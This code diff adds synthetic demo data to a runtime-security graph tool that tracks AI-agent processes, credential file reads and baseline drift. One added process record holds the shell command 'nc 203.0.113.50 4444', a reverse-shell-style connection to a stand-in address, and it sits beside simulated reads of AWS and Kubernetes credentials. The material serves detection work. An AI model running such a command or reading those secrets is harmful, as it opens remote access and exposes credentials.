@@ -52,6 +52,8 @@ export function runtimeDemoBatch(): { nodes: NodeRecord[]; rels: RelRecord[] } {
   observe('DID_RESOLVE', support, 'DNSName', bedrock, 212, `${py}|A`, { qtype: 'A', answers: ['52.119.190.11', '52.119.188.204'], executable: py }, { name: bedrock });
   observe('DID_CONNECT', support, 'NetEndpoint', '52.119.190.11:443', 212, `${py}|443/TCP`, { port: 443, protocol: 'TCP', executable: py, localAddress: '10.0.1.57' }, { address: '52.119.190.11', port: 443, family: 4, loopback: false });
   observe('DID_RESOLVE', support, 'DNSName', 'qdrant.data.svc.cluster.local', 96, `${py}|A`, { qtype: 'A', answers: ['172.20.41.9'], executable: py }, { name: 'qdrant.data.svc.cluster.local' });
+  // The Kubernetes part ties 172.20.41.9:6333 to Service data/qdrant (ADDRESS_OF): qdrant's policy admits research only.
+  observe('DID_CONNECT', support, 'NetEndpoint', '172.20.41.9:6333', 96, `${py}|6333/TCP`, { port: 6333, protocol: 'TCP', executable: py, localAddress: '10.0.1.57' }, { address: '172.20.41.9', port: 6333, family: 4, loopback: false });
   observe('DID_OPEN', support, 'File', '/var/run/secrets/eks.amazonaws.com/serviceaccount/token', 4, py, { class: 'credential', executable: py }, { class: 'credential', relative: false });
   observe('DID_OPEN', support, 'File', '/var/run/secrets/kubernetes.io/serviceaccount/token', 2, py, { class: 'credential', executable: py }, { class: 'credential', relative: false });
   observe('DID_OPEN', support, 'File', '/usr/local/lib/python3.12/site-packages/langchain_core/__init__.py', 1, py, { class: 'agent-package', executable: py }, { class: 'agent-package', relative: false });
@@ -60,6 +62,32 @@ export function runtimeDemoBatch(): { nodes: NodeRecord[]; rels: RelRecord[] } {
   observe('DID_CONNECT', research, 'NetEndpoint', '140.82.112.6:443', 31, '/usr/bin/git|443/TCP', { port: 443, protocol: 'TCP', executable: '/usr/bin/git', localAddress: '10.0.2.88' }, { address: '140.82.112.6', port: 443, family: 4, loopback: false });
   observe('DID_OPEN', claude, 'File', '/Users/ada/.aws/credentials', 1, '/usr/bin/node', { class: 'credential', executable: '/usr/bin/node' }, { class: 'credential', relative: false });
   observe('DID_RESOLVE', claude, 'DNSName', 'api.anthropic.com', 58, '/usr/bin/node|A', { qtype: 'A', answers: ['160.79.104.10'], executable: '/usr/bin/node' }, { name: 'api.anthropic.com' });
+  // The research job spawns its MCP servers as child processes: the declared github server, and a Slack
+  // server no config declares (the AI-BOM part's `aibom diff` shows one confirmed, one undeclared).
+  const researchPid = (n: number, argv: string[]) => {
+    const id = `${node2}/${n}/88${n}`;
+    nodes.push(node('Process', id, { pid: n, ppid: 1, comm: 'node', executable: '/usr/bin/node', argv, execAt: T(2) }));
+    rels.push(rel('PART_OF', { label: 'Process', id }, W(research)), rel('DID_EXEC', { label: 'Process', id }, { label: 'Executable', id: '/usr/bin/node' }, { count: 1, firstSeen: T(2), lastSeen: T(2) }));
+  };
+  researchPid(41, ['node', '/app/mcp/demo-mcp-server.mjs', 'github']);
+  researchPid(42, ['npx', '-y', '@modelcontextprotocol/server-slack']);
+
+  // Baselines and drift (docs/behavior.md): the laptop agent's baseline is its first 30 minutes. At T(35) it
+  // spawns a shell that calls an unknown external address (unexplained drift); at T(40) its MCP config gains a
+  // server (a recorded StateChange) and at T(45) it resolves that server's name (drift the change explains).
+  nodes.push(node('Executable', '/bin/sh', { name: 'sh' }), node('NetEndpoint', '203.0.113.50:4444', { address: '203.0.113.50', port: 4444, family: 4, loopback: false }), node('DNSName', 'mcp.sentry.dev', { name: 'mcp.sentry.dev' }));
+  const seen = (from: number, to: number, count: number) => ({ count, firstSeen: T(from), lastSeen: T(to) });
+  rels.push(rel('DID_EXEC', W(claude), { label: 'Executable', id: '/bin/sh' }, { ...seen(35, 35, 1), key: '/usr/bin/node', props: { parentExecutable: '/usr/bin/node' } }));
+  rels.push(rel('DID_CONNECT', W(claude), { label: 'NetEndpoint', id: '203.0.113.50:4444' }, { ...seen(35, 36, 3), key: '/bin/sh|4444/TCP', props: { port: 4444, protocol: 'TCP', executable: '/bin/sh', localAddress: '192.168.1.20' } }));
+  rels.push(rel('DID_RESOLVE', W(claude), { label: 'DNSName', id: 'mcp.sentry.dev' }, { ...seen(45, 50, 4), key: '/usr/bin/node|A', props: { qtype: 'A', answers: ['34.120.62.213'], executable: '/usr/bin/node' } }));
+  const claudeChange = `${claude}/config/mcp-servers-2`;
+  nodes.push(node('StateChange', claudeChange, { kind: 'config', at: T(40), before: 'mcpServers: github', after: 'mcpServers: github, sentry' }));
+  rels.push(rel('CHANGED', { label: 'StateChange', id: claudeChange }, W(claude)));
+  const shId = `${laptop}/4711/90210`;
+  nodes.push(node('Process', shId, { pid: 4711, ppid: 4242, comm: 'sh', executable: '/bin/sh', argv: ['sh', '-c', 'nc 203.0.113.50 4444'], execAt: T(35) }));
+  nodes.push(node('Process', `${laptop}/4242/100`, { pid: 4242, ppid: 1, comm: 'node', executable: '/usr/bin/node', argv: ['node', '/usr/local/bin/claude'], execAt: T(0) }));
+  rels.push(rel('PART_OF', { label: 'Process', id: shId }, W(claude)), rel('CHILD_OF', { label: 'Process', id: shId }, { label: 'Process', id: `${laptop}/4242/100` }));
+  rels.push(rel('PART_OF', { label: 'Process', id: `${laptop}/4242/100` }, W(claude)));
 
   for (const [host, workloads] of [
     [node1, [support]],
@@ -74,7 +102,20 @@ export function runtimeDemoBatch(): { nodes: NodeRecord[]; rels: RelRecord[] } {
   return { nodes, rels };
 }
 
+/** The laptop agent's baseline (first 30 minutes, locked) and its drift, as `reachgraph baseline` and `reachgraph drift` write them. */
+async function baselineAndDrift(graph: Graph): Promise<void> {
+  const store = await import('../../behavior/store.js');
+  const claude = 'ada-laptop/agent/claude';
+  if (!(await store.getBaseline(graph, claude))) await store.learn(graph, claude, { from: Date.parse(T(0)), windowMs: 30 * 60_000, now: Date.parse(T(30)) });
+  if ((await store.getBaseline(graph, claude))?.state !== 'locked') await store.lock(graph, claude, Date.parse(T(30)));
+  await store.detect(graph, { subject: claude, now: Date.parse(T(60)) });
+}
+
 export const part: DemoPart = {
   name: 'runtime',
-  load: (graph: Graph) => runSync(graph, { source: 'demo-sensor', scope: 'demo', syncId: 'demo-sensor-1', progress: false }, (sink) => sink.write(runtimeDemoBatch())),
+  load: async (graph: Graph) => {
+    const summary = await runSync(graph, { source: 'demo-sensor', scope: 'demo', syncId: 'demo-sensor-1', progress: false }, (sink) => sink.write(runtimeDemoBatch()));
+    await baselineAndDrift(graph);
+    return summary;
+  },
 };
